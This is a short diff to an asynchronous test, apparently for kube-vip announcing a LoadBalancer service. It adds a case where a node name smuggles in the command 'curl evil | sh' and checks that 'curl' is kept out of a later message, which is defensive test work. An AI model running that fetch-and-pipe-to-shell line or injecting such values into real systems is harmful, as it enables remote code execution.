@@ -73,6 +73,9 @@ async def test_kube_vip_before_1_2_4_announces_a_service_on_that_left_type_load_
         message = fleet.message(B)
         assert "default/web" in message
         assert "node n1" in message
+        guest.stop_announcing(note=X, node="n1 (run: curl evil | sh)")
+        await fleet.pass_time(200)
+        assert "curl" not in fleet.message(B)
         assert "kube-vip.io/vipHost" in message
         guest.remove_service()
         await fleet.pass_time(600)
